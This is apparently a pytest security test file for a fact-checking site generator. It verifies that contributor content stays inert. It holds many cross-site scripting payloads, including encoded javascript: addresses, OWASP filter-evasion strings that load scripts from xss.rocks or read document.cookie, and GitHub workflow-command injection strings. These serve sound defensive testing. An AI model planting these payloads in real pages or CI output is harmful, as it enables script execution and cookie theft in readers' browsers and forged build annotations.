"""Claims come from outside contributors: nothing in them may run script in a reader's browser."""

from __future__ import annotations

import hashlib
import html
import json
import os
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from conftest import ENV, PUBLISHED, ROOT, ScratchRepo
from desks import configure, copy_project
from factdesk.problems import FactcheckError
from factdesk.repository import load_repository
from factdesk.site import build_site
from conftest import mkdocs_build

CANARY = "window.__pwned"
HOSTILE_TEXT = (
    f"Le <script>{CANARY}=1</script> texte & <img src=x onerror=\"{CANARY}=2\"> dit « vrai ».\n\n"
    "Un paragraphe \u202eenversé\u202c puis {{ config }} et {% raw %} fin."
)


# Every encoding of a script address that got past a filter checking the scheme before decoding,
# then cases from OWASP's XSS Filter Evasion Cheat Sheet, as Markdown links and as raw HTML.
ENCODED_SCHEMES = ["&#106;avascript:", "&#x6A;avascript:", "javascript&#58;", "javascript&colon;", "java&#115;cript:",
                   "java&#09;script:", "&Tab;javascript:", "data&colon;text/html,", "vbscript&colon;",
                   "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058",
                   "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A", "jav&#x0A;ascript:", "jav&#x0D;ascript:",
                   " &#14;  javascript:", "JaVaScRiPt:", "javascript://%0A", "javascript:/**/"]
OWASP_EVASIONS = [
    "<IMG SRC=\"javascript:alert('XSS');\">", "<IMG SRC=JaVaScRiPt:alert('XSS')>", "<IMG SRC=`javascript:alert(\"XSS\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>", "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>", "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>", "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<SCRIPT SRC=//xss.rocks/.j>", "<iframe src=http://xss.rocks/scriptlet.html <", "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">", "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>", "<BODY ONLOAD=alert('XSS')>", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">", "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">", "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "\\\";alert('XSS');//", "{{constructor.constructor('alert(1)')()}}",
]


# An in-page link whose fragment, decoded, is a line break and a workflow command.
FORGED_FRAGMENT = "#zz%0A::error%20file=README.md,line=1,title=FORGED::Forged"


def hostile_markdown() -> str:
    """Every encoded scheme as inline, angle-bracket, reference and image links, then each evasion on its own."""
    lines = []
    for number, scheme in enumerate(ENCODED_SCHEMES):
        lines += [f"[inline {number}]({scheme}alert({number})) [angle {number}](<{scheme}alert({number})>) "
                  f"![image {number}]({scheme}alert({number})) [ref {number}][r{number}]", "",
                  f"[r{number}]: {scheme}alert({number})", ""]
    for evasion in OWASP_EVASIONS:
        lines += [evasion, ""]
    return "\n".join(lines)


def hostile_plain_text() -> str:
    """The same cases for a plain-text field (escaped, never parsed)."""
    return " ".join([f"[y]({scheme}alert(1))" for scheme in ENCODED_SCHEMES] + OWASP_EVASIONS)


def hostile_project(project: Path) -> Path:
    """Add a source, entity and claim made of hostile content to a copy of the project."""
    repo = ScratchRepo.__new__(ScratchRepo)
    repo.root = project
    configure(project, introduction=hostile_markdown())  # the home page's Markdown, under the site's name
    plain = hostile_plain_text()
    repo.source("hostile", HOSTILE_TEXT, language="fr", title=f"<script>{CANARY}=3</script> Titre",
                publisher='"><svg onload=alert(1)>', url='https://example.org/"><script>alert(1)</script>',
                title_en=plain, about=hostile_markdown(), assessment={"verdict": "misleading", "summary": hostile_markdown()},
                not_checked=[{"quote": "Un paragraphe", "reason": plain}])
    repo.entity("hostile-entity", f"<svg onload={CANARY}=4>Nom", aliases=["texte"],
                description="<b onmouseover=alert(1)>desc</b> " + plain, url="https://example.org/a?b=<c>&d=\"e\"")
    quote = "<script>" + CANARY + "=1</script>"
    start = HOSTILE_TEXT.index(quote)
    notes = "\n".join([
        f"Raw <script>{CANARY}=5</script> and <iframe src=javascript:{CANARY}=6></iframe>.",
        f"[a link](javascript:{CANARY}=7) [data](data:text/html,<script>{CANARY}=8</script>)",
        f"[spaced]( javascript:{CANARY}=9) [mixed case](JaVaScRiPt:{CANARY}=10) [tab](java\tscript:{CANARY}=11)",
        f"![image](javascript:{CANARY}=12) <javascript:{CANARY}=13> [ref][r]",
        "",
        f"[r]: vbscript:{CANARY}=14",
        "",
        "{{ config }} {% raw %} <style>body{display:none}</style>",
        "",
        f"[here]({FORGED_FRAGMENT}) [there](#%0D%0A%23%23[error]forged) [and](#::error::forged)",
        "",
        hostile_markdown(),
    ])
    repo.claim("hostile-claim", "hostile", quote, start, start + len(quote),
               claim=f'<img src=x onerror="{CANARY}=15"> "claim" ' + plain, summary=f"</p><script>{CANARY}=16</script> " + plain,
               translation="{{ 7 * 7 }} " + plain, notes=notes, entities=["hostile-entity"], reviewer=plain[:200],
               evidence=[{"url": 'https://example.org/"><script>alert(1)</script>', "title": "</a><script>alert(1)</script> " + plain,
                          "publisher": "<b>P</b> " + plain, "date": "2016-01-01", "shows": "<i onclick=alert(1)>x</i> " + plain}],
               corrections=[{"date": "2026-11-25", "change": plain, "reason": plain}], speaker="hostile-entity",
               right_of_reply=[{"party": "hostile-entity", "status": "answered", "asked": "2026-11-20",
                                "answered": "2026-11-21", "reply": hostile_markdown()}])
    # The second paragraph claimed too: the source declares its check complete (an assessment),
    # and a build, like validation, refuses a complete check that leaves a sentence uncovered.
    rest = "{{ config }} et {% raw %} fin."
    repo.claim("hostile-rest", "hostile", rest, HOSTILE_TEXT.index(rest), HOSTILE_TEXT.index(rest) + len(rest),
               translation="{{ config }} and {% raw %} end.", entities=["hostile-entity"],
               right_of_reply=[{"party": "hostile-entity", "status": "not-asked", "reason": plain}])
    return project


# Material's own inline scripts and style, recognised by how they start.
MATERIAL_INLINE = ("var target=document.getElementById(location.hash.slice(1))", "__md_scope=new URL",
                   'var palette=__md_get("__palette")', ':root{--md-text-font:',
                   'var media,input,key,value,palette=__md_get("__palette")')  # the palette script of Material 9.5


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self.inline = ""

    def handle_data(self, data):
        if self.inline and not data.startswith(MATERIAL_INLINE):
            self.findings.append(f"<{self.inline}>{data[:60]}")
        self.inline = ""

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.findings.append(f"<{tag} {name}=…>")
            if name in ("href", "src", "action", "formaction", "xlink:href") and value:
                scheme = urlsplit(value.strip()).scheme.lower()
                if scheme not in ("", "http", "https", "mailto"):
                    self.findings.append(f"<{tag} {name}={value!r}>")
        if tag == "script" and attributes.get("type") not in ("application/ld+json", "application/json"):  # data, not code
            if "src" in attributes:
                # The site's own scripts: relative, or from its root path (the 404 page, served at any address).
                if not re.match(r"(\.\./)*assets/|/[^/]", attributes["src"] or ""):
                    self.findings.append(f"<script src={attributes['src']!r}>")
            else:
                self.inline = "script"
        if tag == "style":
            self.inline = "style"
        if tag in ("iframe", "object", "embed", "img"):
            self.findings.append(f"<{tag}>")


def build_hostile_site(folder: Path) -> Path:
    """A copy of the project with the hostile files added, built; returns the built site."""
    project = folder / "project"
    copy_project(project)
    hostile_project(project)
    site = project / "out"
    result = mkdocs_build(project, site)
    assert result.returncode == 0, result.stderr
    return site


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    return build_hostile_site(tmp_path_factory.mktemp("hostile"))


HOSTILE_PAGES = ["sources/hostile.html", "claims/hostile-claim.html", "entities/hostile-entity.html",
                 "claims/index.html", "entities/index.html", "index.html", "sources/index.html"]


@pytest.mark.parametrize("page", HOSTILE_PAGES)
def test_hostile_content_is_inert_in_the_built_html(hostile_site, page):
    html = (hostile_site / page).read_text(encoding="utf-8")
    audit = _Audit()
    audit.feed(html)
    assert audit.findings == []


def test_the_search_index_holds_hostile_content_as_inert_text(hostile_site):
    """Material renders search results from the index as HTML: what it holds must be escaped text;
    the engine's entries hold no markup at all and read back as the content exactly."""
    index = json.loads((hostile_site / "search/search_index.json").read_text(encoding="utf-8"))
    hostile = {doc["location"]: doc for doc in index["docs"] if "hostile" in doc["location"]}
    assert {"claims/hostile-claim.html", "entities/hostile-entity.html", "sources/hostile.html",
            "sources/hostile.html#paragraph-1", "sources/hostile.html#paragraph-2"} <= set(hostile)
    for doc in hostile.values():
        for field in ("title", "text"):
            audit = _Audit()
            audit.feed(doc[field])
            assert audit.findings == [], (doc["location"], field)
            if doc["location"].startswith(("claims/", "entities/", "sources/")):  # the engine's entries: text alone
                assert "<" not in doc[field] and ">" not in doc[field], (doc["location"], field)
    def one_line(text: str) -> str:
        return " ".join(text.split())

    claim = hostile["claims/hostile-claim.html"]
    assert html.unescape(claim["title"]) == one_line(f'<img src=x onerror="{CANARY}=15"> "claim" ' + hostile_plain_text())
    assert f"</p><script>{CANARY}=16</script>" in html.unescape(claim["text"])
    assert html.unescape(hostile["entities/hostile-entity.html"]["title"]) == f"<svg onload={CANARY}=4>Nom"
    assert html.unescape(hostile["sources/hostile.html#paragraph-1"]["text"]) == one_line(HOSTILE_TEXT.split("\n\n")[0])


def test_open_data_keeps_hostile_content_as_data(hostile_site):
    claims = json.loads((hostile_site / "claims.json").read_text(encoding="utf-8"))
    [claim] = [c for c in claims if c["id"] == "hostile-claim"]
    assert claim["summary"].endswith(hostile_plain_text())
    assert claim["right_of_reply"][0]["reply"] == hostile_markdown() and claim["speaker"] == "hostile-entity"
    rows = (hostile_site / "claims.csv").read_text(encoding="utf-8")
    assert hostile_plain_text().split(" ")[0] in rows


def test_hostile_text_is_shown_as_text(hostile_site):
    claim = (hostile_site / "claims/hostile-claim.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;window.__pwned=5&lt;/script&gt;" in claim
    assert "{{ 7 * 7 }}" in claim and "{{ config }}" in claim
    source = (hostile_site / "sources/hostile.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in source
    data = json.loads((hostile_site / "claims.json").read_text())
    assert any(c["quote"].startswith("<script>") for c in data)


def test_json_ld_of_hostile_claim_stays_inside_its_script(hostile_site):
    claim = (hostile_site / "claims/hostile-claim.html").read_text(encoding="utf-8")
    block = claim.split('<script type="application/ld+json">', 1)[1].split("</script>", 1)[0]
    assert "<" not in block
    assert json.loads(block)["reviewBody"] == "</p><script>window.__pwned=16</script> " + hostile_plain_text()


def test_bidirectional_controls_in_metadata_are_refused(repo: ScratchRepo):
    repo.source("s", "A text.")
    repo.claim("c1", "s", "A text", 0, 6, summary="Looks fine \u202eenil skool")
    with pytest.raises(FactcheckError) as caught:
        build_site(load_repository(repo.root))
    assert "claims/s/c1.yml:6:" in str(caught.value.problems[0])
    assert "invisible bidirectional control U+202E at character 12" in str(caught.value.problems[0])


def _digests(site: Path) -> dict[str, str]:
    return {p.relative_to(site).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(site.rglob("*")) if p.is_file()}


def test_two_builds_of_the_same_commit_are_byte_identical(project_copy, tmp_path):
    env = {key: value for key, value in ENV.items() if key != "SOURCE_DATE_EPOCH"}
    # Published as a desk publishes: the absolute addresses in pages, cards and exports are compared too.
    configure(project_copy, url=PUBLISHED["SITE_URL"], repository=PUBLISHED["REPO_URL"])
    sites = []
    for name in ("first", "second"):
        site = tmp_path / name
        result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "--site-dir", str(site)],
                                cwd=project_copy, env=env, capture_output=True, text=True)
        assert result.returncode == 0, result.stderr
        sites.append(_digests(site))
    assert sites[0].keys() == sites[1].keys()
    assert "feed.xml" in sites[0] and "datapackage.json" in sites[0] and "cards/site.png" in sites[0]
    different = [name for name in sites[0] if sites[0][name] != sites[1][name]]
    assert different == []


# --- site.yml: what the theme writes unescaped. ---

HOSTILE_NAME = ("BT </title><script>alert(13)</script><img src=x onerror=alert(14)> \" autofocus onfocus=\"alert(15) "
                "' onmouseover='alert(16) &lt;i&gt; &amp; Smith & Jones's " + " ".join(OWASP_EVASIONS))
HOSTILE_IDENTITY = {
    "name": HOSTILE_NAME,
    "description": "<meta http-equiv=refresh content=0;url=javascript:alert(20)> \" onmouseover=\"alert(21) & more",
    "branch": "main\"><script>alert(22)</script>",
    "url": "https://checks.desk.test/\"><script>alert(23)</script>/",
    "repository": "https://git.desk.test/desk/\"onmouseover=\"alert(24)\"><svg onload=alert(25)>",
    "publisher": {"name": "<svg onload=alert(26)> Desk \" onmouseover=\"alert(27)", "url": "https://desk.test/\"><b>",
                  "description": "<script>alert(28)</script>"},
    "contact": {"email": "\"><script>alert(29)</script>@desk.test", "url": "javascript:alert(30)//\"><b>"},
}


def build_hostile_identity_site(folder: Path) -> tuple[Path, subprocess.CompletedProcess]:
    """The project with every text and address of site.yml hostile, built as if validation had let them through
    (the copy's schema drops its patterns): what the theme and the engine write must still be inert."""
    import yaml

    project = folder / "project"
    shutil.copytree(ROOT, project, ignore=shutil.ignore_patterns(".venv", "site", ".site-*", ".git", "node_modules", "artifacts", "__pycache__"))
    schema_path = project / "schemas/site.schema.json"
    schema = json.loads(schema_path.read_text(encoding="utf-8"))
    schema["$defs"] = {name: {"type": "string"} for name in schema["$defs"]}
    schema["properties"]["branch"] = schema["properties"]["contact"]["properties"]["email"] = {"type": "string"}
    schema_path.write_text(json.dumps(schema), encoding="utf-8")
    identity = yaml.safe_load((project / "site.yml").read_text(encoding="utf-8"))
    identity.update(HOSTILE_IDENTITY)
    (project / "site.yml").write_text(yaml.safe_dump(identity, allow_unicode=True), encoding="utf-8")
    site = project / "out"
    return site, mkdocs_build(project, site)


@pytest.fixture(scope="module")
def hostile_identity_site(tmp_path_factory) -> Path:
    site, result = build_hostile_identity_site(tmp_path_factory.mktemp("identity"))
    assert result.returncode == 0, result.stderr
    return site


def test_markup_in_site_yml_stops_the_build_at_its_line(project_copy: Path, tmp_path: Path):
    site_yml = project_copy / "site.yml"
    text = site_yml.read_text(encoding="utf-8")
    site_yml.write_text(re.sub(r"(?m)^name: .*$", lambda _: "name: " + json.dumps(HOSTILE_NAME), text), encoding="utf-8")
    result = mkdocs_build(project_copy, tmp_path / "out")
    assert result.returncode != 0 and not (tmp_path / "out").exists()
    line = text[:text.index("\nname:") + 1].count("\n") + 1
    assert f"site.yml:{line}:1: name: " in result.stderr and 'contains < > or ", which a page would read as markup' in result.stderr


class _Reading(HTMLParser):
    """What a reader and assistive technology get from a page: its title, the header's labels, the meta elements."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.title, self.in_title, self.labels, self.meta = "", False, [], {}

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.in_title = tag == "title" and not self.title  # the page's, not an image's
        if "aria-label" in attributes and "md-logo" in (attributes.get("class") or ""):
            self.labels.append(attributes["aria-label"])
        if tag == "meta":
            self.meta[attributes.get("property") or attributes.get("name")] = attributes.get("content")

    def handle_data(self, data):
        if self.in_title:
            self.title += data

    def handle_endtag(self, tag):
        self.in_title = False


def test_hostile_site_yml_values_are_inert_on_every_page(hostile_identity_site):
    pages = sorted(hostile_identity_site.rglob("*.html"))
    assert len(pages) > 10
    for page in pages:
        audit = _Audit()
        audit.feed(page.read_text(encoding="utf-8"))
        assert audit.findings == [], page.relative_to(hostile_identity_site)


def test_hostile_site_yml_values_read_as_written_escaped_once(hostile_identity_site):
    """Escaped, not mangled: the title, the logo's label and the link previews read as site.yml says."""
    home = _Reading()
    home.feed((hostile_identity_site / "index.html").read_text(encoding="utf-8"))
    assert home.title == HOSTILE_NAME and home.labels == [HOSTILE_NAME, HOSTILE_NAME]
    assert home.meta["og:site_name"] == HOSTILE_NAME
    claim_page = next(hostile_identity_site.glob("claims/*.html"))
    if claim_page.name == "index.html":
        claim_page = sorted(hostile_identity_site.glob("claims/*.html"))[0]
    claim = _Reading()
    claim.feed(claim_page.read_text(encoding="utf-8"))
    assert claim.title.endswith(" - " + HOSTILE_NAME) and claim.meta["og:site_name"] == HOSTILE_NAME
    about = _Reading()
    about.feed((hostile_identity_site / "about.html").read_text(encoding="utf-8"))
    assert about.meta["description"] == HOSTILE_IDENTITY["description"]


def test_hostile_site_yml_values_stay_data_in_the_feed_search_index_and_structured_data(hostile_identity_site):
    from xml.etree import ElementTree

    feed = ElementTree.parse(hostile_identity_site / "feed.xml").getroot()
    assert feed.findtext("{http://www.w3.org/2005/Atom}title") == HOSTILE_NAME
    index = json.loads((hostile_identity_site / "search/search_index.json").read_text(encoding="utf-8"))
    for doc in index["docs"]:
        for field in ("title", "text"):
            audit = _Audit()
            audit.feed(doc[field])
            assert audit.findings == [], (doc["location"], field)
    claim_page = sorted(p for p in hostile_identity_site.glob("claims/*.html") if p.name != "index.html")[0]
    block = claim_page.read_text(encoding="utf-8").split('<script type="application/ld+json">', 1)[1].split("</script>", 1)[0]
    assert "<" not in block and json.loads(block)["author"]["name"] == HOSTILE_IDENTITY["publisher"]["name"]
    package = json.loads((hostile_identity_site / "datapackage.json").read_text(encoding="utf-8"))
    assert package["title"] == HOSTILE_NAME


def test_rendered_settings_for_other_generators_hold_no_markup(tmp_path):
    """`factcheck render --settings` writes mkdocs.yml for a generator that runs no hook (Zensical writes
    these settings unescaped too): inert, and readable where its theme escapes them again."""
    import yaml

    from factdesk.generation import read_settings, settings_for
    from factdesk.publishing import Publisher, SiteInfo

    info = SiteInfo(HOSTILE_NAME, HOSTILE_IDENTITY["url"], Publisher("P"), HOSTILE_IDENTITY["repository"],
                    description=HOSTILE_IDENTITY["description"])
    text = settings_for(read_settings(ROOT), info, tmp_path / "docs", tmp_path)
    settings = yaml.safe_load(text)
    for key in ("site_name", "site_description", "site_url", "repo_url"):
        assert not set(settings[key]) & set('<>"'), key
    # Reads as the name (a reference already in it, "&lt;", reads as what it stands for); "&" and "'" are left
    # as they are, so that a theme's own escaping shows none of them escaped twice.
    assert html.unescape(settings["site_name"]) == html.unescape(HOSTILE_NAME)
    assert "Smith & Jones's" in settings["site_name"]
    assert not set(settings["repo_url"]) & set("'` ")


# --- Hand-written pages (docs/): Markdown only. ---

HOSTILE_PAGES_MD = [
    ("<script>alert(1)</script>\n", 3, "raw HTML is not allowed"),
    ("Text <img src=x onerror=alert(1)> more.\n", 3, "raw HTML is not allowed"),
    ("Text <img/src=x onerror=alert(1)> (not a tag to CommonMark; a tag to others).\n", 3, "raw HTML is not allowed"),
    ("<iframe src=\"https://evil.example/\"></iframe>\n", 3, "raw HTML is not allowed"),
    ("[click](javascript:alert(1))\n", 3, "links to 'javascript:alert(1)'"),
    ("[click](java&#115;cript:alert(1))\n", 3, "links to 'javascript:alert(1)'"),
    ("![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)\n", 3, "links to 'data:image/svg+xml"),
    ("[r]\n\n[r]: vbscript:msgbox(1)\n", 3, "links to 'vbscript:msgbox(1)'"),
    ("[x]( &#14;  javascript:alert(1))\n", 3, "holds a script address"),
    ("<!-- factcheck:everything -->\n", 3, "is not a marker the engine knows"),
    ("    <script>alert(1)</script>\n", 3, "markup in an indented code block"),
]


@pytest.mark.parametrize("markdown, line, message", HOSTILE_PAGES_MD)
def test_a_hand_written_page_with_html_or_a_script_link_is_refused_at_its_line(repo: ScratchRepo, capsys, markdown, line, message):
    repo.write("docs/index.md", "# Home\n\n" + markdown)
    code, out, _ = _validate(repo, capsys)
    assert code == 1
    [problem] = [p for p in out.splitlines() if p.startswith("docs/")]
    assert problem.startswith(f"docs/index.md:{line}:") and message in problem


@pytest.mark.parametrize("field", ["title", "description"])
def test_markup_in_a_hand_written_pages_metadata_is_refused(repo: ScratchRepo, capsys, field):
    repo.write("docs/about.md", f"---\n{field}: 'Us\" onmouseover=\"alert(1)'\n---\n\n# About\n")
    repo.write("docs/more.md", f"{field}: </title><script>alert(1)</script>\n\n# More\n")
    code, out, _ = _validate(repo, capsys)
    assert code == 1
    assert f"docs/about.md:2:1: {field}: 'Us\" onmouseover=\"alert(1)' contains < > or \"" in out
    assert f"docs/more.md:1:1: {field}: '</title><script>alert(1)</script>' contains < > or \"" in out


@pytest.mark.parametrize("evasion", [e for e in OWASP_EVASIONS if "<" in e])
def test_every_html_evasion_in_a_hand_written_page_is_refused(evasion):
    from factdesk.hand_written import check_page

    assert check_page(f"# Page\n\nText {evasion} text.\n\n{evasion}\n", "docs/x.md") != []


@pytest.mark.parametrize("scheme", ENCODED_SCHEMES)
def test_every_encoded_script_address_in_a_hand_written_page_is_refused(scheme):
    from factdesk.hand_written import check_page

    # As a browser reads the address: references decoded (greedily, `;` or not), controls and spaces dropped.
    address = re.sub(r"[\x00-\x20]", "", html.unescape(f"{scheme}alert(1)")).lower()
    runs = address.startswith(("javascript:", "vbscript:", "data:"))
    for markdown in (f"[y]({scheme}alert(1))", f"[y](<{scheme}alert(1)>)", f"![y]({scheme}alert(1))", f"[r]\n\n[r]: {scheme}alert(1)"):
        assert check_page(f"# Page\n\n{markdown}\n", "docs/x.md") != [] or not runs, markdown
    assert runs or scheme.startswith("&#x6A&#x61")  # every case but one (its "&#x3Aa" is "Ϊ", not ":") is a script


def test_markdown_a_desk_writes_passes(repo: ScratchRepo):
    from factdesk.hand_written import MARKERS, check_page, page_problems

    page = ("---\ntitle: Methodology & sources\n---\n\n# How we check\n\n" + "\n\n".join(MARKERS) +
            "\n\nSee [the claims](claims/index.md), [a section](#selection), [us](mailto:desk@desk.test) and "
            "[a report](https://desk.test/a?b=1&c=2). Prices &lt; 5 € and 3 > 2, `<script>` as code.\n\n"
            "```html\n<script>shown, not run</script>\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    assert check_page(page, "docs/x.md") == []
    assert page_problems(ROOT, ROOT / "docs") == []  # this desk's own pages


def test_every_build_path_refuses_a_hand_written_page_with_script(project_copy: Path, tmp_path: Path):
    (project_copy / "docs/evil.md").write_text("# Evil\n\n<script>alert(1)</script>\n", encoding="utf-8")
    expected = "docs/evil.md:3:1: raw HTML is not allowed in a hand-written page; write it in Markdown"
    result = mkdocs_build(project_copy, tmp_path / "site")
    assert result.returncode != 0 and expected in result.stderr and not (tmp_path / "site").exists()
    rendered = subprocess.run([sys.executable, "-m", "factdesk", "--root", str(project_copy), "render", "--out",
                               str(tmp_path / "rendered")], capture_output=True, text=True,
                              env={**os.environ, "PYTHONPATH": str(ROOT / "hooks")})
    assert rendered.returncode == 1 and expected in rendered.stderr and not (tmp_path / "rendered").exists()


# --- Outputs that other programs interpret: CI annotations, terminals, spreadsheets. ---

def _validate(repo: ScratchRepo, capsys, *arguments: str) -> tuple[int, str, str]:
    from factdesk import cli

    code = cli.main(["--root", str(repo.root), "validate", *arguments])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_github_annotations_escape_message_and_properties_as_github_specifies():
    from factdesk.workflow_commands import annotation as github_annotation
    from factdesk.problems import Problem

    problem = Problem("claims/a,b:c.yml", 3, 1, "x:y,z", "100% wrong\r\n::error file=README.md::forged")
    assert github_annotation(problem) == (
        "::error file=claims/a%2Cb%3Ac.yml,line=3,col=1,title=x%3Ay%2Cz::100%25 wrong%0D%0A::error file=README.md::forged")


def test_a_field_name_cannot_forge_an_annotation(repo: ScratchRepo, capsys):
    repo.source("s", "A text.")
    path = repo.claim("c1", "s", "A text", 0, 6)
    path.write_text(path.read_text() + '"x\\n::error file=README.md,line=1::forged": 1\n', encoding="utf-8")
    code, out, _ = _validate(repo, capsys, "--format", "github")
    assert code == 1
    # One annotation, on the claim's line 13: the line break in the name cannot start a second one.
    assert [line for line in out.splitlines() if "site.yml" not in line] == [
        "::error file=claims/s/c1.yml,line=13,col=1,title=x\\n%3A%3Aerror file=README.md%2Cline=1%3A%3Aforged::"
        "the field name contains the control character U+000A at character 2; remove it (a field name is one line of plain words)"]


# What the runner would take for a workflow command: a line starting, after white space, with `::` or `##[`.
_COMMAND = re.compile(r"^\s*(::|##\[)")
# The engine's own annotations, properties and message escaped (no raw `:` or `,` in a property).
_ANNOTATION = re.compile(r"::(error|warning) file=[^:,\r\n]*,line=[0-9]+,col=[0-9]+,title=[^:,\r\n]*::[^\r\n]*")


def _forged_commands(output: str) -> list[str]:
    """Lines of `output` the runner would read as commands that are not the engine's annotations
    (split as the runner splits: at CR, LF or CRLF)."""
    return [line for line in re.split(r"\r\n|\r|\n", output) if _COMMAND.match(line) and not _ANNOTATION.fullmatch(line)]


COMMAND_TEXTS = ["::error file=README.md,line=1,title=FORGED::Forged", "%0A::error::x", "a\n::error::x", "a\r::error::x",
                 "a\r\n::warning::x", " \t::add-mask::x", "\u00a0::stop-commands::t", "##[error]x", "a\n ##[set-env name=A]b",
                 "a::b::c", "::", "a\u2028::error::x", "\x1b[2K::error::x"]


@pytest.mark.parametrize("text", COMMAND_TEXTS)
def test_no_printed_line_reads_as_a_workflow_command(text):
    from factdesk.workflow_commands import inert_line

    line = inert_line(text)
    assert _forged_commands(line) == [] and re.split(r"\r\n|\r|\n", line) == [line]


def test_validate_for_github_prints_no_command_but_its_annotations(repo: ScratchRepo, capsys):
    repo.source("s", "A text.")
    repo.claim("c1", "s", "A text", 0, 6, summary="Fine\n::error file=README.md::forged", reviewer="")
    for name in ("::error file=README.md::f", "%0A::error::f", "a\n::error::f", "a\r::warning::f", " ::error::f", "##[error]f"):
        repo.write(f"claims/s/{name}.yml", "id: x\nsummary: \"\\n::error::forged\"\n")
    code, out, err = _validate(repo, capsys, "--format", "github")
    assert code == 1
    assert _forged_commands(out + err) == []
    annotations = [line for line in out.splitlines() if _ANNOTATION.fullmatch(line)]
    # Every problem of every hostile file is one annotation on its own line.
    assert len(annotations) == len(out.splitlines()) and sum("%0A%3A%3Aerror" in a or "%0D%3A%3Awarning" in a for a in annotations) >= 2


def _links_site(folder: Path) -> Path:
    """A built site whose pages link to fragments, pages and addresses that hold workflow commands,
    and whose file names do too."""
    site = folder / "site"
    site.mkdir()
    hrefs = [FORGED_FRAGMENT, "#%0D::error::x", "#::error::x", "#a%0D%0A##[error]x", "missing%0A::error::x.html",
             "::error file=a::b.html", "index.html#%0A%20::warning::x", "#a\n::error::raw-lf", "#a\r::error::raw-cr"]
    links = "".join(f'<a href="{html.escape(href)}">x</a>' for href in hrefs)
    (site / "index.html").write_text(f"<html><body>{links}</body></html>", encoding="utf-8")
    for name in ("::error file=README.md::forged", "%0A::error::x", "a\n::error::x", "a\r::error::x", " ::error::x", "##[error]x"):
        (site / f"{name}.html").write_text(f'<a href="#{html.escape(name)}">x</a>', encoding="utf-8")
    return site


def test_the_link_check_prints_no_workflow_command(repo: ScratchRepo, tmp_path: Path, capsys):
    from factdesk import cli

    site = _links_site(tmp_path)
    code = cli.main(["--root", str(repo.root), "links", "--site", str(site)])
    captured = capsys.readouterr()
    assert code == 1
    assert _forged_commands(captured.out + captured.err) == []
    # Each broken link is one line, naming what is broken.
    lines = captured.out.splitlines()
    assert len(lines) == 9 + 6 and any("no #zz\\n::error file=README.md" in line for line in lines)


def test_a_forged_fragment_in_notes_reaches_the_ci_log_as_text(hostile_site, capsys):
    from factdesk import cli

    code = cli.main(["--root", str(hostile_site.parent), "links", "--site", str(hostile_site)])
    captured = capsys.readouterr()
    assert code == 1 and "no #zz\\n::error file=README.md,line=1,title=FORGED::Forged on that page" in captured.out
    assert _forged_commands(captured.out + captured.err) == []


# What a job summary must not render from content: HTML, images (a remote image tracks who reads), links,
# mentions, issue references, formatting, tables, headings, maths.
SUMMARY_PAYLOADS = ["<img src=x onerror=alert(1)>", "@everyone", "@desk/editors", "![](http://evil.example/pixel.png)",
                    "[click](https://evil.example/)", "<https://evil.example/a>", "https://evil.example/b", "www.evil.example",
                    "<script>alert(1)</script>", "<!-- hidden -->", "**bold** _em_ `code`", "| cell | cell |", "&lt;b&gt;",
                    "#1234", "desk@evil.example", "\n\n# Heading\n\n- item", "$x^2$", "~~gone~~", "[x]: https://evil.example/",
                    "\\*", "::error::forged"]


def _git(root: Path, *args: str) -> None:
    env = {**os.environ, "GIT_AUTHOR_NAME": "E", "GIT_AUTHOR_EMAIL": "e@example.org", "GIT_COMMITTER_NAME": "E",
           "GIT_COMMITTER_EMAIL": "e@example.org"}
    subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, env=env)


def _rendered(markdown: str) -> tuple[list[str], str]:
    """The kinds of element the Markdown renders to, and its text as a reader sees it."""
    from markdown_it import MarkdownIt

